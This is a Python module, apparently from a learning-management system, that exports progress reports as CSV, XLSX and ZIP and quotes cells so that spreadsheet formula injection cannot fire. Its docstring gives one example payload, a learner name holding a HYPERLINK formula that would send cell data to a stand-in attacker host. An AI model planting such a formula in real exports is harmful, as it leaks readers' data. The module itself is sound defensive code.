"""Spreadsheet exports that cannot be turned against their readers.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a
tab or carriage return) as a formula: a learner named ``=HYPERLINK("http://evil.example/?"&A1)``
would run in the instructor's spreadsheet. Every CSV (and any XLSX) export writes its cells through
``safe_cell``, which puts a single quote before such text (OWASP's advice): the reader sees the
text as typed, and the spreadsheet never evaluates it. Numbers are written as they are.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterable
from typing import Any

from flask_babel import gettext as _

from lms.services.cohorts import status_label

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value to write into a spreadsheet cell: text that would start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """The rows as CSV text, every cell passed through ``safe_cell``: the one CSV writer."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()


def _certificate_cell(row) -> str:
    if not row.certificate_serial:
        return ""
    if row.certificate_revoked:
        return _("%(serial)s (revoked)", serial=row.certificate_serial)
    return row.certificate_serial


def progress_csv(matrix, rows) -> str:
    """The progress matrix as CSV text with a byte-order mark (so spreadsheets read it as UTF-8).

    A person reads it, so its column names are in the language of whoever asked for it (no program
    reads them back); the cells are data: numbers, names, serials, ISO dates.
    """
    modules = matrix.course.modules
    header = (
        [_("Name"), _("E-mail")]
        + [_("Module %(number)d minutes (of %(minutes)d)", number=m.number, minutes=m.minutes)
           for m in modules]
        + [_("Module %(number)d quiz best %%", number=m.number) for m in modules]
        + [_("Total hours (of %(hours)s)", hours=f"{matrix.course.required_minutes / 60:g}"),
           _("Certificate")]
        + [_("Due %(date)s: %(what)s", date=a.due_on.isoformat(),
             what=a.module_slug or _("whole course")) for a in matrix.assignments]
    )  # fmt: skip
    body = []
    for row in rows:
        quiz = [row.quizzes.get(m.slug) for m in modules]
        body.append(
            [row.learner.full_name, row.learner.email]
            + [row.hours.module(m.slug).credited_minutes for m in modules]
            + [(q.best_score if q else "") for q in quiz]
            + [f"{row.hours.credited_hours:.2f}", _certificate_cell(row)]
            + [status_label(row.statuses[a.id]) for a in matrix.assignments]
        )  # fmt: skip
    return "\ufeff" + csv_text([header, *body])


def zip_of(files: Iterable[tuple[str, bytes]]) -> bytes:
    """A ZIP archive of (name, bytes) files, in the order given. Names are the caller's (serials,
    never anything a user typed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return buffer.getvalue()


XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_bytes(sheets: Iterable[tuple[str, Iterable[Iterable[Any]]]]) -> bytes:
    """A workbook of (sheet title, rows) with openpyxl, every cell through ``safe_cell`` (a text
    cell starting with ``=`` would be a formula in XLSX as well). Titles are the caller's, never
    typed by a user; they are cut to the 31 characters a sheet name may have."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    for title, rows in sheets:
        sheet = book.create_sheet(title=str(title)[:31])
        for row in rows:
            sheet.append([safe_cell(cell) for cell in row])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
